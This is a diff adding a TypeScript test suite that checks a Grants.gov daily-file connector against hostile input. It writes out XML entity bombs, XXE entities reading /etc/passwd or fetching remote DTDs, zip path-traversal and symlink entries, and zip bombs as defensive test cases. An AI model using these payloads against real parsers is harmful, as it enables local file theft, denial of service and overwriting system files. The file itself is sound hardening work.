@@ -1,0 +1,200 @@
+import { AppError } from '@rfp/contracts/errors';
+import { type Notice } from '@rfp/contracts/notice';
+import { grantsGovExtractDay, grantsGovExtractName, grantsGovExtractTwin, grantsGovExtractXml, type ExtractFile } from '@rfp/twins/grants-gov-extract';
+import { startTwin, type Twin } from '@rfp/twins/twin-server';
+import { zipBytes, type ZipMember } from '@rfp/twins/zip-file';
+import fc from 'fast-check';
+import { createSourceFetch } from '../fetch-source.js';
+import { archiveLimits } from './constants.js';
+import { grantsGovExtract } from './index.js';
+import { openMember } from './open-member.js';
+import { openTemporaryFile, writeAll } from './temporary-file.js';
+
+const now = new Date('2026-10-01T12:00:00Z');
+const connector = grantsGovExtract.create({ key: 'grants_gov_extract', name: 'Grants.gov daily file', source_type: 'federal_grant', home_url: 'https://www.grants.gov/' }, {});
+const member = `${grantsGovExtractName(grantsGovExtractDay)}.xml`;
+const xml = grantsGovExtractXml();
+
+/** Whatever a file makes somebody ask for would be asked for here. */
+let tripwire: Twin;
+beforeAll(async () => {
+  tripwire = await startTwin({ name: 'tripwire', answer: () => ({ body: '<!ENTITY stolen "yes">' }) });
+});
+afterEach(() => expect(tripwire.requests).toEqual([]));
+afterAll(() => tripwire.stop());
+
+interface Ran {
+  notices: Notice[];
+  error: AppError | null;
+  megabytes: number;
+}
+
+async function readFile(file: ExtractFile): Promise<Ran> {
+  const twin = await startTwin(grantsGovExtractTwin({ files: { [grantsGovExtractDay]: file } }));
+  const { signal } = new AbortController();
+  const notices: Notice[] = [];
+  let error: AppError | null = null;
+  const before = process.memoryUsage().rss;
+  try {
+    const fetch = createSourceFetch({ signal, sleep: async () => {} });
+    for await (const page of connector.read({ fetch, now, signal, checkpoint: null, apiKey: null }, twin.url)) notices.push(...page.notices);
+  } catch (thrown) {
+    if (!(thrown instanceof AppError)) throw thrown;
+    error = thrown;
+  } finally {
+    expect(twin.requests).toHaveLength(1);
+    await twin.stop();
+  }
+  return { notices, error, megabytes: (process.memoryUsage().rss - before) / 1_048_576 };
+}
+
+const readXml = (text: string): Promise<Ran> => readFile({ xml: text });
+const readZip = async (members: readonly ZipMember[]): Promise<Ran> => readFile({ zip: await zipBytes(members) });
+const withDoctype = (doctype: string): string => xml.replace('<Grants', `${doctype}\n<Grants`);
+const inTitle = (text: string): string => xml.replace('Coastal', text);
+const bombOfEntities = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`).join('')}]>`;
+const namespace = 'xmlns="http://apply.grants.gov/system/OpportunityDetail-V1.0"';
+
+describe('an XML bomb in the daily file', () => {
+  it.each([
+    ['a billion laughs', () => withDoctype(bombOfEntities).replace('Coastal', '&lol9;'), 'SOURCE_UNSAFE'],
+    ['a quadratic blow-up', () => withDoctype(`<!DOCTYPE g [<!ENTITY a "${'a'.repeat(50_000)}">]>`).replace('Coastal', '&a;'.repeat(50_000)), 'SOURCE_UNSAFE'],
+    ['an entity of a file of this machine', () => withDoctype('<!DOCTYPE g [<!ENTITY stolen SYSTEM "file:///etc/passwd">]>').replace('Coastal', '&stolen;'), 'SOURCE_UNSAFE'],
+    ['an entity of another server', () => withDoctype(`<!DOCTYPE g [<!ENTITY stolen SYSTEM "${tripwire.url}/entity">]>`).replace('Coastal', '&stolen;'), 'SOURCE_UNSAFE'],
+    ['a parameter entity that sends what it reads', () => withDoctype(`<!DOCTYPE g [<!ENTITY % dtd SYSTEM "${tripwire.url}/evil.dtd">%dtd;]>`), 'SOURCE_UNSAFE'],
+    ['a DTD of another server', () => withDoctype(`<!DOCTYPE Grants SYSTEM "${tripwire.url}/grants.dtd">`), 'SOURCE_UNSAFE'],
+    ['a DTD by a public name', () => withDoctype(`<!DOCTYPE Grants PUBLIC "-//X//EN" "${tripwire.url}/grants.dtd">`), 'SOURCE_UNSAFE'],
+    ['a DOCTYPE again and again', () => withDoctype('<!DOCTYPE g>\n<!DOCTYPE g [<!ENTITY a "b">]>\n<!DOCTYPE g>'), 'SOURCE_UNSAFE'],
+    ['an entity of many numeric references', () => withDoctype(`<!DOCTYPE g [<!ENTITY a "${'&#65;'.repeat(10_000)}"><!ENTITY b "${'&a;'.repeat(1000)}">]>`).replace('Coastal', '&b;'), 'SOURCE_UNSAFE'],
+    ['a DOCTYPE without end', () => withDoctype(`<!DOCTYPE g [${'<!-- x -->'.repeat(300_000)}`), 'SOURCE_UNSAFE'],
+    ['a DOCTYPE behind the root', () => xml.replace('</Grants>', '<!DOCTYPE g [<!ENTITY a "b">]></Grants>'), 'SOURCE_UNSAFE'],
+    ['a DOCTYPE in a record', () => inTitle('<!DOCTYPE g [<!ENTITY a "b">]>&a;'), 'SOURCE_UNSAFE'],
+    ['a text without end', () => inTitle('x'.repeat(3_000_000)), 'SOURCE_UNSAFE'],
+    ['a text of numeric references without end', () => inTitle('&#65;'.repeat(3_000_000)), 'SOURCE_UNSAFE'],
+    ['a comment without end', () => inTitle(`<!-- ${'x'.repeat(3_000_000)} -->`), 'SOURCE_UNSAFE'],
+    ['attributes without end', () => xml.replace('<Grants', `<Grants ${Array.from({ length: 200_000 }, (_, index) => `a${index}="x"`).join(' ')}`), 'SOURCE_UNSAFE'],
+    ['a name without end', () => inTitle(`<${'x'.repeat(3_000_000)}>`), 'SOURCE_UNSAFE'],
+    ['elements nested without end', () => inTitle('<x>'.repeat(1_000_000)), 'SOURCE_UNSAFE'],
+  ])('does nothing: %s', async (_what, make, code) => {
+    const { error, notices, megabytes } = await readXml(make());
+    expect(error?.code).toBe(code);
+    expect(error?.message).toMatch(/^The file of the source is not read any further, because .+\.$/);
+    expect(notices).toEqual([]);
+    // Of what is sent here, the twin and the packer keep most: what a bomb would make of it is gigabytes.
+    expect(megabytes).toBeLessThan(500);
+  });
+
+  it.each([
+    ['an inclusion of another file', () => inTitle(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${tripwire.url}/include"/>Coastal`)],
+    ['a style sheet', () => xml.replace('<Grants', `<?xml-stylesheet href="${tripwire.url}/style.xsl"?><Grants`)],
+    ['the place of a schema', () => xml.replace('<Grants', `<Grants xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${tripwire.url}/x.xsd"`)],
+  ])('has no effect where it is %s', async (_what, make) => {
+    const { error, notices } = await readXml(make());
+    expect(error).toBeNull();
+    expect(notices).toHaveLength(6);
+  });
+
+  it('that is many small fields costs only its record', async () => {
+    const { error, notices } = await readXml(xml.replace('<CFDANumbers>11.473', `${'<CFDANumbers>11.473</CFDANumbers>'.repeat(100_000)}<CFDANumbers>11.473`));
+    expect([error, notices.length]).toEqual([null, 5]);
+  });
+});
+
+describe('a file that is not the one that is known', () => {
+  it.each([
+    ['another root', `<Awards ${namespace}></Awards>`, 'SOURCE_CHANGED'],
+    ['another namespace', xml.replace('OpportunityDetail-V1.0', 'OpportunityDetail-V9.9'), 'SOURCE_CHANGED'],
+    ['a kind of record that is not known', xml.replaceAll('OpportunityForecastDetail_1_0', 'OpportunityCancelDetail_1_0'), 'SOURCE_CHANGED'],
+    ['another encoding', xml.replace('UTF-8', 'UTF-16'), 'SOURCE_CHANGED'],
+    ['a tag that is not closed', xml.replace('</OpportunityTitle>', ''), 'SOURCE_CHANGED'],
+    ['fields of other names', xml.replaceAll('OpportunityID', 'OpportunityIdentifier'), 'SOURCE_CHANGED'],
+    ['its end cut off', xml.slice(0, -20), 'SOURCE_TRUNCATED'],
+    ['a record cut in the middle', xml.slice(0, xml.indexOf('Coastal')), 'SOURCE_TRUNCATED'],
+    ['no record', `<Grants ${namespace}></Grants>`, 'SOURCE_EMPTY'],
+    ['nothing in it', '', 'SOURCE_EMPTY'],
+  ])('fails the run, and is never "0 records": %s', async (_what, text, code) => {
+    const { error, notices } = await readXml(text);
+    expect(error?.code).toBe(code);
+    expect(notices).toEqual([]);
+  });
+});
+
+describe('a hostile archive', () => {
+  const good: ZipMember = { name: member, content: xml };
+
+  it.each([
+    ['a path that leads out of it', [{ name: '../../../../etc/cron.d/evil', content: 'x' }]],
+    ['an absolute path', [{ name: '/etc/passwd', content: 'x' }, { name: 'C:\\Windows\\evil.dll', content: 'x' }]],
+    ['a link', [{ name: 'link', content: '/etc/passwd', mode: 0o120777, stored: true }]],
+    ['the same name in a folder or in capitals', [{ name: `x/${member}`, content: '<evil/>' }, { name: `./${member}`, content: '<evil/>' }, { name: member.toUpperCase(), content: '<evil/>' }]],
+    ['another bomb, which is not looked at', [{ name: '0.zip', content: Buffer.alloc(50_000_000) }]],
+  ] satisfies [string, ZipMember[]][])('is read for its one file only, where it also holds %s', async (_what, others) => {
+    for (const members of [[...others, good], [good, ...others]]) {
+      const { error, notices } = await readZip(members);
+      expect([error, notices.length]).toEqual([null, 6]);
+    }
+  });
+
+  it.each([
+    ['packs 1000:1', [{ name: member, content: Buffer.alloc(50_000_000) }], 'SOURCE_UNSAFE'],
+    ['holds archives in archives', [{ name: 'lib 0.zip', content: Buffer.alloc(1000) }], 'SOURCE_CHANGED'],
+    ['holds the file twice', [good, good], 'SOURCE_UNSAFE'],
+    ['holds the file as a link', [{ ...good, content: '/etc/passwd', mode: 0o120777, stored: true }], 'SOURCE_UNSAFE'],
+    ['holds the file as a device', [{ ...good, mode: 0o060600 }], 'SOURCE_UNSAFE'],
+    ['says less than it unpacks to', [{ ...good, central: { uncompressed: 100 } }], 'SOURCE_UNSAFE'],
+    ['says more than it unpacks to', [{ ...good, central: { uncompressed: xml.length + 100 } }], 'SOURCE_UNSAFE'],
+    ['hides a bomb behind small sizes', [{ name: member, content: Buffer.alloc(50_000_000), central: { uncompressed: 1000 } }], 'SOURCE_UNSAFE'],
+    ['says to go on behind its end', [{ ...good, central: { compressed: 50_000_000 } }], 'SOURCE_UNSAFE'],
+    ['says other sizes in front', [{ ...good, local: { uncompressed: 5, compressed: 5 } }], 'SOURCE_UNSAFE'],
+    ['says another name in front', [{ ...good, local: { name: '../evil' } }], 'SOURCE_UNSAFE'],
+    ['has the checksum of another file', [{ ...good, central: { crc32: 1 } }], 'SOURCE_TRUNCATED'],
+    ['is encrypted', [{ ...good, encrypted: true }], 'SOURCE_CHANGED'],
+    ['holds a thousand files', Array.from({ length: 1000 }, (_, index) => ({ name: `${index}`, content: 'x' })), 'SOURCE_UNSAFE'],
+    ['does not hold the file', [{ ...good, name: 'GrantsDBExtract20260930v2.xml' }], 'SOURCE_CHANGED'],
+    ['holds nothing', [], 'SOURCE_CHANGED'],
+  ] satisfies [string, ZipMember[], string][])('is refused where it %s', async (_what, members, code) => {
+    const { error, notices, megabytes } = await readZip(members);
+    expect(error?.code).toBe(code);
+    expect(notices).toEqual([]);
+    expect(megabytes).toBeLessThan(500);
+  });
+
+  it('is refused where it is none', async () => {
+    expect((await readFile({ zip: Buffer.from('<Error><Code>NoSuchKey</Code></Error>') })).error?.code).toBe('SOURCE_CHANGED');
+  });
+
+  it('is never read for more than it holds, whatever byte of it is wrong', async () => {
+    const whole = await zipBytes([good]);
+    const { notices: expected } = await readZip([good]);
+    await fc.assert(
+      fc.asyncProperty(fc.nat(whole.length - 1), fc.integer({ min: 1, max: 255 }), async (at, change) => {
+        const broken = Buffer.from(whole);
+        broken.writeUInt8(broken.readUInt8(at) ^ change, at);
+        const { notices, error } = await readFile({ zip: broken });
+        // Some bytes do not count, such as the time of the file. Where one does, nothing at all is handed on.
+        expect(notices).toEqual(error === null ? expected : []);
+        expect(error?.code ?? 'SOURCE_TRUNCATED').toMatch(/^SOURCE_(TRUNCATED|CHANGED|UNSAFE|EMPTY|TOO_LARGE)$/);
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  it('is refused by its size: packed, unpacked, and by the number of its files', async () => {
+    const { signal } = new AbortController();
+    const file = await openTemporaryFile();
+    try {
+      const whole = await zipBytes([good, { name: 'other', content: 'x' }]);
+      async function* pieces(): AsyncGenerator<Uint8Array> {
+        yield whole;
+      }
+      await expect(writeAll(file.handle, pieces(), whole.length - 1)).rejects.toMatchObject({ code: 'SOURCE_TOO_LARGE' });
+      await writeAll(file.handle, pieces(), whole.length);
+      await expect(openMember(file.handle, member, signal, { ...archiveLimits, memberBytes: 1000 })).rejects.toMatchObject({ code: 'SOURCE_TOO_LARGE' });
+      await expect(openMember(file.handle, member, signal, { ...archiveLimits, ratio: 1 })).rejects.toMatchObject({ code: 'SOURCE_UNSAFE' });
+      await expect(openMember(file.handle, member, signal, { ...archiveLimits, members: 1 })).rejects.toMatchObject({ code: 'SOURCE_UNSAFE' });
+      await expect(openMember(file.handle, member, signal)).resolves.toHaveProperty('read');
+    } finally {
+      await file.close();
+    }
+  });
+});
